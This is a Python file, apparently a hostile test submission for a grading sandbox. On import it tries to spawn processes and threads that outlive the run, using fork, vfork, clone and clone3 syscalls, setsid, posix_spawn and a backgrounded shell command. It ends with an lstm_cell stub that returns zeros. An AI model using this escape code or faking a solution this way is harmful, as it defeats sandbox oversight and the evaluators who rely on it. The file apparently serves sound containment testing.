# hostile: starts processes and threads by every route Python and libc offer, each meant to outlive the run
import _thread
import ctypes
import os
import posix
import time

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def _linger():
    try:
        os.setsid()
    except OSError:
        pass
    time.sleep(120)
    os._exit(0)


def _attack():
    for start in (
        lambda: posix.fork(),
        lambda: libc.fork(),
        lambda: libc.syscall(57),  # fork
        lambda: libc.syscall(58),  # vfork
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),  # clone(SIGCHLD)
        lambda: libc.syscall(435, 0, 0),  # clone3
    ):
        try:
            pid = start()
        except Exception:
            continue
        if pid == 0:
            _linger()
    for spawn in (
        lambda: posix.posix_spawn("/bin/sleep", ["sleep", "120"], {}),
        lambda: os.system("sleep 120 &"),
        lambda: _thread.start_new_thread(time.sleep, (120,)),
    ):
        try:
            spawn()
        except Exception:
            pass


_attack()


def lstm_cell(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
    return np.zeros_like(h_prev), np.zeros_like(c_prev)
